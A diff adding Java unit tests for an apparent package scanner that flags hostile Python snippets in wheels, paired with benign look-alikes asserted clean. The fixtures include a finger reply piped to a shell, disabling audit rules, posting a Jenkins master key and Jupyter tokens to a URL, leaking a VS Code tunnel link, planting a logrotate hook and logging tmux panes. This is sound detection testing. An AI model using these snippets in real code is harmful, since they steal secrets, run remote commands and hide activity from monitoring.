@@ -3292,6 +3292,65 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/present.py", present))).isEmpty();
   }
 
+  @Test
+  void logrotateScriptsFingerRepliesRunAndAuditRulesDeletedAreFlagged() {
+    String logrotate =
+        "ENTRY = \"\"\"/var/log/x.log {\n    daily\n    postrotate\n        /usr/bin/x-agent\n"
+            + "    endscript\n}\n\"\"\"\n"
+            + "with open('/etc/logrotate.d/x', 'w', encoding='utf-8') as fh:\n"
+            + "    fh.write(ENTRY)\n";
+    String finger =
+        "import subprocess\nsubprocess.Popen('finger s@100.64.3.7 | more +2 | cmd', shell=True)\n";
+    String audit = "import subprocess\nsubprocess.run(['auditctl', '-e', '0'])\n";
+    String jenkins =
+        "import os, requests\nkey = open(os.path.join(HOME, 'secrets/master.key')).read()\n"
+            + "requests.post(URL, data={'k': key})\n";
+    String logrotateRead =
+        logrotate
+            .replace("'w', encoding", "encoding")
+            .replace("fh.write(ENTRY)", "old = fh.read()");
+    String fingerShown = "import subprocess\nsubprocess.run(['finger', 'alice@host.example'])\n";
+    String auditListed = "import subprocess\nsubprocess.run(['auditctl', '-l'])\n";
+
+    assertThat(levelIn(logrotate, "plants-logrotate-script")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(finger, "finger-reply-run")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(audit, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(jenkins, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
+    // the same configuration compared with what is there, a finger reply shown, audit rules listed
+    assertThat(check(wheelWith("pkg/rotate.py", logrotateRead))).isEmpty();
+    assertThat(check(wheelWith("pkg/who.py", fingerShown))).isEmpty();
+    assertThat(check(wheelWith("pkg/audit.py", auditListed))).isEmpty();
+  }
+
+  @Test
+  void remoteSessionsHandedOutTokensAndPanesRecordedAreFlagged() {
+    String tunnel =
+        "import subprocess, urllib.request\n"
+            + "proc = subprocess.Popen([code, 'tunnel', '--accept-server-license-terms'],"
+            + " stdout=subprocess.PIPE, text=True)\n"
+            + "urllib.request.urlopen(URL + proc.stdout.readline())\n";
+    String jupyter =
+        "import subprocess, requests\n"
+            + "out = subprocess.run(['jupyter', 'server', 'list', '--json'], capture_output=True)"
+            + ".stdout\nrequests.post(URL, data=out)\n";
+    String tmux =
+        "import os, subprocess\nsubprocess.run(['tmux', 'pipe-pane', '-o', '-t', P, 'cat >> L'])\n"
+            + "with open(os.path.expanduser('~/.tmux.conf'), 'a') as fh:\n"
+            + "    fh.write(HOOK)\n";
+    String tunnelHelp = "HELP = 'Run code tunnel to reach this machine from vscode.dev'\n";
+    String jupyterShown = "import subprocess\nsubprocess.run(['jupyter', 'server', 'list'])\n";
+    String tmuxConfRead =
+        "import os\nwith open(os.path.expanduser('~/.tmux.conf')) as fh:\n    conf = fh.read()\n";
+
+    assertThat(levelIn(tunnel, "shares-remote-session")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(jupyter, "sends-secret-command-output")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(tmux, "records-terminal-panes")).isEqualTo(RiskLevel.HIGH);
+    // a tunnel named in help text, the servers listed to the user, tmux's configuration read
+    assertThat(check(wheelWith("pkg/help.py", tunnelHelp))).isEmpty();
+    assertThat(check(wheelWith("pkg/servers.py", jupyterShown))).isEmpty();
+    assertThat(check(wheelWith("pkg/conf.py", tmuxConfRead))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
